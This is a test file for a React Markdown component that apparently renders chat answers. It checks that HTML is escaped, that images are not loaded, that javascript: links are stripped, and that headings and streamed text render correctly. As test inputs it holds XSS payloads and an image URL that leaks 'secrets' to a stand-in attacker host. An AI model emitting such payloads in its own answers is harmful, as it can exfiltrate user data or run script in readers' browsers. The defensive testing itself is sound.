import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import Markdown from "./markdown";

const html = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

test("HTML in an answer is text", () => {
  const markup = html(
    '<b onclick="x()">bold</b> <script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>',
  );
  expect(markup).not.toMatch(/<(b|script|iframe)[ >]/);
  expect(markup).toContain("&lt;script&gt;");
});

test("an image is named and never loaded", () => {
  const markup = html("![secrets](https://evil.example/a.png?q=secrets) ![](data:image/png;base64,AAAA)");
  expect(markup).not.toContain("<img");
  expect(markup).not.toContain("evil.example");
  expect(markup).toContain("[Image: secrets]");
});

test("links leave the page safely, and only where a link may lead", () => {
  const markup = html("[a](https://a.example) [b](/chat) [c](javascript:alert(1))");
  expect(markup).toContain('<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">');
  expect(markup).toContain('<a href="/chat">b</a>');
  expect(markup).not.toContain("javascript:");
});

test("headings stay below those of the page", () => {
  expect(html("# One\n\n## Two")).toMatch(/<h3>One<\/h3>\s*<h4>Two<\/h4>/);
});

test("code, lists and tables are rendered", () => {
  const markup = html("`inline`\n\n```js\nlet a = 1\n```\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  expect(markup).toContain("<code>inline</code>");
  expect(markup).toMatch(/<pre[^>]*><code[^>]*>let a = 1/);
  expect(markup).toContain("<li>one</li>");
  expect(markup).toMatch(/<th>a<\/th>/);
});

test("what has not been closed yet already looks as it will", () => {
  expect(html("**unfin", true)).toContain("<strong>unfin</strong>");
});
